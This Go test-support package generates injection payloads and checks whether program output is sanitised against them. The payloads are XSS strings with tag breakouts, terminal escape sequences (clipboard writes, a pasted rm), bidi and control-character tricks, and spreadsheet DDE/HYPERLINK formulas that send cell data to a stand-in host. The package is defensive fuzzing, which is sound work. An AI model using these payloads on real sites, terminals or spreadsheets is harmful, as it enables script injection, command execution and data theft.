// Package foreigntest attacks whatever shows foreign text, and says what got through.
//
// In:  nothing; then what a command printed or a page holds. Out: Payloads, some 400 texts that a page may carry to be run by a
// browser, a terminal, a spreadsheet or a reader's eye; the faults that Terminal, CSV and HTML find in an output.
package foreigntest

import (
	"encoding/csv"
	"fmt"
	"strconv"
	"strings"

	"github.com/PuerkitoBio/goquery"
	"golang.org/x/net/html"
)

// scripts run in a browser that takes them for markup; %s is where they break out from.
var scripts = []string{
	`<script>alert(1)</script>`, `<ScRiPt src=//x.example/a.js></sCrIpT>`, `<img src=x onerror=alert(1)>`, `<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`,
	`<iframe srcdoc="<script>alert(1)</script>">`, `<body onload=alert(1)>`, `<a href="javascript:alert(1)">x</a>`, `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`, `<form action=//x.example><input name=a>`, `<base href=//x.example/>`, `<link rel=stylesheet href=//x.example/a.css>`,
	`<meta http-equiv=refresh content="0;url=//x.example">`, `<object data=//x.example/a.swf>`, `<style>*{background:url(//x.example)}</style>`, `<video><source onerror=alert(1)>`,
	`<details open ontoggle=alert(1)>`, `<input autofocus onfocus=alert(1)>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<!--><script>alert(1)</script>-->`,
	`<template><script>alert(1)</script></template>`, `{{constructor.constructor('alert(1)')()}}`, `{{.}}{{template "x"}}`, `${alert(1)}`,
}

// breakouts leave the place that a text was set in.
var breakouts = []string{`%s`, `">%s`, `'>%s`, `</title>%s`, `</textarea>%s`, `</style>%s`, `</script>%s`, `]]>%s`, `-->%s`}

// sequences are obeyed by terminals.
var sequences = []string{
	"[31m", "[2J", "[H", "[1A", "[999D", "[?1049h", "[6n", "[c", "[?25l", "[4h", "[!p", "]0;x\a", "]2;x\x1b\\", "]8;;https://x.example\x1b\\link", "]52;c;YQ==\a", "]1337;File=name=YQ==:YQ==\a",
	"]4;1;rgb:ff/00/00\a", "]50;x\a", "P1$r0m\x1b\\", "_x\x1b\\", "^x\x1b\\", "c", "#8", "(0", "=", "M", "7", "[200~rm\n\x1b[201~",
}

// marks change the order or the look of what stands about them.
var marks = []string{
	"\u202egnp.exe", "\u202dabc", "\u202aabc\u202c", "\u202babc", "\u2066abc\u2069", "\u2067abc\u2069", "\u2068abc", "\u200eabc", "\u200fabc", "\u061cabc", "a\u2028b", "a\u2029b", "\ufeffa", "a\U000e0041b\U000e007f",
	"a\rb", "a\bb", "a\vb", "a\fb", "a\x00b", "a\x7fb", "a\u0085b", "a\u009b2Jb", "a\u009d0;x\u009cb", "a\u0090q\u009cb", "a\xffb", "a\xc0\xafb", "a\xed\xa0\x80b",
}

// formulas are calculated by spreadsheets.
var formulas = []string{
	`1+1`, `HYPERLINK("https://x.example?"&A1,"x")`, `cmd|' /C calc'!A0`, `IMPORTXML("https://x.example","//a")`, `WEBSERVICE("https://x.example")`, `DDE("cmd";"/C calc";"x")`, `SUM(1+1)*cmd|' /C calc'!A0`, `10+20+cmd|' /C calc'!A0`, `A1&"x`, `-1`,
}

var openers = []string{"=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "＋", "－", "＠", "\"=", "';=", ",="}

// Payloads returns all attacks, each once.
func Payloads() (out []string) {
	for _, s := range scripts {
		for _, b := range breakouts {
			out = append(out, fmt.Sprintf(b, s))
		}
	}
	for _, s := range sequences {
		out = append(out, "a\x1b"+s+"b")
	}
	out = append(out, marks...)
	for _, f := range formulas {
		for _, o := range openers {
			out = append(out, o+f)
		}
	}
	return out
}

// Terminal returns what in an output a terminal would obey, or "".
func Terminal(out string) string {
	for i, r := range out {
		switch {
		case r == '\n' || r == '\t':
		case r < 0x20, r >= 0x7f && r <= 0x9f, r == 0x061C, r == 0x200E, r == 0x200F, r >= 0x2028 && r <= 0x202E, r >= 0x2066 && r <= 0x2069, r == 0xFEFF, r >= 0xE0000 && r <= 0xE007F:
			return fmt.Sprintf("%U at byte %d: %q", r, i, out[max(0, i-40):min(len(out), i+40)])
		}
	}
	return ""
}

// CSV returns the first cell that a spreadsheet would calculate, or what makes the document unreadable, or "".
func CSV(doc string) string {
	rows, err := csv.NewReader(strings.NewReader(doc)).ReadAll()
	if err != nil {
		return err.Error()
	}
	for _, row := range rows {
		for _, cell := range row {
			if _, err := strconv.ParseFloat(cell, 64); err == nil || cell == "" {
				continue
			}
			if strings.ContainsRune("=+-@＝＋－＠", []rune(strings.TrimLeft(cell, " \t\r\n\u00a0"))[0]) {
				return fmt.Sprintf("the formula %q", cell)
			}
		}
	}
	return ""
}

// HTML returns what in a page runs, loads or leads elsewhere than to the web, or "". Scripts and styles of the page's own are to be
// taken out before.
func HTML(doc string) (fault string) {
	d, err := goquery.NewDocumentFromReader(strings.NewReader(doc))
	if err != nil {
		return err.Error()
	}
	d.Find("*").EachWithBreak(func(_ int, s *goquery.Selection) bool {
		fault = element(s.Nodes[0])
		return fault == ""
	})
	return fault
}

var running = map[string]bool{"script": true, "iframe": true, "object": true, "embed": true, "base": true, "img": true, "video": true, "audio": true, "source": true, "image": true, "foreignobject": true, "math": true, "template": true, "noscript": true}

func element(n *html.Node) string {
	if running[strings.ToLower(n.Data)] {
		return "a <" + n.Data + ">"
	}
	for _, a := range n.Attr {
		v := strings.ToLower(strings.TrimSpace(a.Val))
		scheme, _, found := strings.Cut(v, ":")
		switch {
		case strings.HasPrefix(a.Key, "on"), a.Key == "srcdoc", a.Key == "style":
			return fmt.Sprintf("<%s %s=%q>", n.Data, a.Key, a.Val)
		case (a.Key == "href" || a.Key == "src" || a.Key == "action" || a.Key == "formaction") && (strings.HasPrefix(v, "//") || found && scheme != "http" && scheme != "https" && !strings.ContainsAny(scheme, "/?#")):
			return fmt.Sprintf("<%s %s=%q>", n.Data, a.Key, a.Val)
		case a.Key == "http-equiv" && v == "refresh":
			return "a refresh"
		}
	}
	return ""
}
